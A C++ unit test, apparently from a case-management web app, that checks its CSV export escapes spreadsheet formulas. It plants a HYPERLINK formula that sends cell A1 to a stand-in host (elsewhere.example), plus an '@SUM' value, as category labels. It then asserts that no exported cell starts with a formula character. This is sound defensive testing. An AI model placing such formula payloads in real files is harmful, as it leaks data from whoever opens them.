#include <gtest/gtest.h>

#include "documents/csv/reader.h"
#include "support/web/test_browser.h"
#include "usecases/lists/change_list.h"
#include "usecases/settings.h"

/// Files for spreadsheets whose words somebody chose with a spreadsheet in mind.
namespace doorstep::test {
namespace {

using domain::access::Role;

class Exports : public ::testing::Test {
  protected:
    TestSite site;
    TestWeb web{site};
    TestBrowser browser{web};
};

TEST_F(Exports, hold_no_cell_that_a_spreadsheet_would_take_for_a_formula) {
    auto administrator = site.as(site.account(Role::administrator));
    ASSERT_TRUE(usecases::lists::change_entry(
        administrator, {.list = "categories",
                        .code = "noise",
                        .like = {},
                        .label = "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"Noise\")",
                        .label_welsh = "@SUM(1+1)",
                        .in_use_from = site.today(),
                        .in_use_until = {}}));
    for (int n = 0; n < 12; ++n) site.open_case({.raised_on = site.today()});
    browser.sign_in(site.account(Role::asb_manager));
    auto const response = browser.get("/figures/data.csv");
    ASSERT_EQ(response.status, 200);
    ASSERT_TRUE(response.content_type.starts_with("text/csv")) << response.content_type;
    EXPECT_NE(response.body.find("'=HYPERLINK"), std::string::npos)
        << "the label is not in the file: test nothing";
    std::size_t cells = 0;
    auto reader = documents::csv::Reader::of_text(response.body);
    while (true) {
        auto const record = reader.next();
        ASSERT_TRUE(record);
        if (!*record) break;
        for (auto const& cell : (*record)->fields) {
            ++cells;
            EXPECT_TRUE(cell.empty() || std::string("=+-@\t\r").find(cell.front()) == std::string::npos)
                << cell;
        }
    }
    EXPECT_GT(cells, 100U);
}

}  // namespace
}  // namespace doorstep::test
